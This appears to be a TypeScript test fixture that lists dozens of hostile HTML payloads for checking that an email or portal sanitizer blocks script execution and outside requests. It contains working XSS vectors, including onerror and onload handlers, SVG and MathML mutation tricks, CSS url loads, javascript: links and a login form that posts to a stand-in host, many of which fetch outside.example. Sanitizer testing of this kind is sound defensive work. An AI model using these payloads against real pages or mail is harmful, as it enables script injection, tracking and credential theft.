// HTML bodies that try to run, load, send or leave, by the ways that mail programs and sanitizers have fallen to. Each that
// could reach out names OUTSIDE, so that a browser test can count. What would run sets the title of the page.

/** Host that nothing may ask. */
export const OUTSIDE = 'https://outside.example';

const RUN = "document.title='RAN';fetch('https://outside.example/ran')";

export const HOSTILE: readonly (readonly [string, string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script from elsewhere', `<script src="${OUTSIDE}/x.js"></script>`],
  ['script, broken', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script, slash', `<script/x>${RUN}</script>`],
  ['script, upper case and NUL', `<SCR\0IPT>${RUN}</SCR\0IPT><SCRIPT>${RUN}</SCRIPT>`],
  ['picture onerror', `<img src=x onerror="${RUN}">`],
  ['picture onerror, no quotes', '<img src=x onerror=document.title="RAN">'],
  ['picture, broken quotes', `<img """><script>${RUN}</script>">`],
  ['picture from elsewhere', `<img src="${OUTSIDE}/pixel.gif"><img src="//outside.example/p.gif">`],
  ['picture srcset', `<img srcset="${OUTSIDE}/a.png 1x" src="data:,">`],
  ['picture element', `<picture><source srcset="${OUTSIDE}/a.png"><img src="${OUTSIDE}/b.png"></picture>`],
  ['lowsrc and dynsrc', `<img lowsrc="${OUTSIDE}/a" dynsrc="${OUTSIDE}/b">`],
  ['svg onload', `<svg onload="${RUN}"></svg>`],
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg use', `<svg><use href="${OUTSIDE}/x.svg#a"/></svg>`],
  ['svg image', `<svg><image href="${OUTSIDE}/x.png"/></svg>`],
  [
    'svg animate',
    '<svg><a><animate attributeName=href values="javascript:document.title=1"/><text y=9>x</text></a></svg>',
  ],
  [
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'svg as picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replaceAll("'", '&quot;')}'/>">`,
  ],
  ['math', `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`],
  ['style import', `<style>@import url(${OUTSIDE}/x.css);</style>`],
  ['style background', `<style>body{background:url(${OUTSIDE}/x.png)}</style><p>x</p>`],
  ['style font', `<style>@font-face{font-family:x;src:url(${OUTSIDE}/x.woff)}p{font-family:x}</style><p>x</p>`],
  ['style attribute url', `<p style="background:url(${OUTSIDE}/x.png);background-image:url('${OUTSIDE}/y')">x</p>`],
  ['style attribute, escaped', '<p style="background:\\75 rl(https://outside.example/x.png)">x</p>'],
  [
    'style attribute, comment',
    '<p style="background:u/**/rl(https://outside.example/x.png);width:expression(document.title=1)">x</p>',
  ],
  [
    'style image-set',
    `<p style="background-image:image-set('${OUTSIDE}/x.png' 1x)">x</p><p style="list-style:url(${OUTSIDE}/y)">`,
  ],
  ['style overlay', `<a style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9" href="${OUTSIDE}/">x</a>`],
  ['style, cut', `<style><!--</style><img src=x onerror="${RUN}">--></style>`],
  ['link to a sheet', `<link rel=stylesheet href="${OUTSIDE}/x.css"><link rel=prefetch href="${OUTSIDE}/y">`],
  [
    'link, hints',
    `<link rel=dns-prefetch href="${OUTSIDE}"><link rel=preconnect href="${OUTSIDE}"><link rel=icon href="${OUTSIDE}/i">`,
  ],
  ['base', `<base href="${OUTSIDE}/"><img src="x.png"><a href="y">y</a>`],
  ['refresh', `<meta http-equiv=refresh content="0;url=${OUTSIDE}/">`],
  ['policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${OUTSIDE}/x">`],
  ['form', `<form action="${OUTSIDE}/" method=post><input name=code autofocus><button>Log in</button></form>`],
  ['button that submits', `<button formaction="${OUTSIDE}/">x</button><input type=image src="${OUTSIDE}/x">`],
  [
    'autofocus',
    `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}">`,
  ],
  ['object', `<object data="${OUTSIDE}/x.swf"><param name=src value="${OUTSIDE}/y"></object>`],
  ['embed', `<embed src="${OUTSIDE}/x"><applet code="${OUTSIDE}/y"></applet>`],
  ['frame', `<iframe src="${OUTSIDE}/"></iframe><frameset><frame src="${OUTSIDE}/"></frameset>`],
  ['frame with a document', `<iframe srcdoc="<script>top.${RUN}</script><img src='${OUTSIDE}/x'>"></iframe>`],
  ['frame with data', `<iframe src="data:text/html,<script>top.${RUN}</script>"></iframe>`],
  [
    'link to a script',
    '<a href="javascript:document.title=1">x</a><a href="java\tscript:alert(1)">y</a><a href=" &#14; javascript:alert(1)">z</a>',
  ],
  [
    'link to data',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">y</a><a href="blob:x">z</a>',
  ],
  ['link that pings', `<a href="https://example.org/" ping="${OUTSIDE}/">x</a><area href="${OUTSIDE}/">`],
  ['link into the portal', '<a href="/p/x/leave">x</a><a href="//outside.example">y</a><a href="#top">z</a>'],
  [
    'media',
    `<video src="${OUTSIDE}/v" poster="${OUTSIDE}/p" autoplay></video><audio src="${OUTSIDE}/a" autoplay></audio><track src="${OUTSIDE}/t">`,
  ],
  [
    'backgrounds',
    `<body background="${OUTSIDE}/x.png"><table background="${OUTSIDE}/y.png"><tr><td background="${OUTSIDE}/z.png">x</table>`,
  ],
  [
    'handlers everywhere',
    `<body onload="${RUN}" onpageshow="${RUN}"><p onpointerenter="${RUN}" style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
  ],
  ['details', `<details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">x</marquee>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN.replaceAll(' ', '')}>"></noscript>`],
  [
    'title and textarea',
    `<title><a title="</title><img src=x onerror='${RUN}'>"></title><textarea><img title="</textarea><svg onload=${RUN}>"></textarea>`,
  ],
  [
    'xmp and plaintext',
    `<xmp><img title="</xmp><img src=x onerror='${RUN}'>"></xmp><plaintext><script>${RUN}</script>`,
  ],
  [
    'template',
    `<template><img src="${OUTSIDE}/x" onerror="${RUN}"></template><template shadowrootmode=open><script>${RUN}</script></template>`,
  ],
  ['comment that ends early', `<!--><img src=x onerror="${RUN}">--><!--a--!><img src=x onerror="${RUN}">-->`],
  [
    'conditional comment',
    `<!--[if gte mso 9]><script>${RUN}</script><![endif]--><![if !x]><img src="${OUTSIDE}/x"><![endif]>`,
  ],
  ['CDATA', `<![CDATA[<script>${RUN}</script>]]><svg><![CDATA[</svg><img src=x onerror="${RUN}">]]></svg>`],
  ['mutation by a table', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`],
  ['mutation by a list', `<svg></p><style><a id="</style><img src=1 onerror=${RUN.replaceAll(' ', '')}>">`],
  ['processing instruction', `<?xml-stylesheet href="${OUTSIDE}/x.css"?><?php ${RUN} ?><p>x</p>`],
  ['attribute that ends the tag', `<p title="x><img src=x onerror='${RUN}'>" / id='"><script>${RUN}</script>'>x</p>`],
  ['backquote', `<img alt="\`\`onerror=${RUN.replaceAll(' ', '')}" src="data:,">`],
  ['UTF-7', '+ADw-script+AD4-document.title=1+ADw-/script+AD4-'],
  ['unclosed', `<img src="${OUTSIDE}/x" onerror="${RUN}" `],
  ['custom elements', `<x-y onfocus="${RUN}" tabindex=0 autofocus>x</x-y><image src="${OUTSIDE}/x" onerror="${RUN}">`],
  [
    'isindex and menu',
    `<isindex action="${OUTSIDE}/" type=image src=1 onerror="${RUN}"><menuitem icon="${OUTSIDE}/i">`,
  ],
  [
    'portal and fences',
    `<portal src="${OUTSIDE}/"></portal><fencedframe src="${OUTSIDE}/"></fencedframe><object type=text/html data="${OUTSIDE}">`,
  ],
];
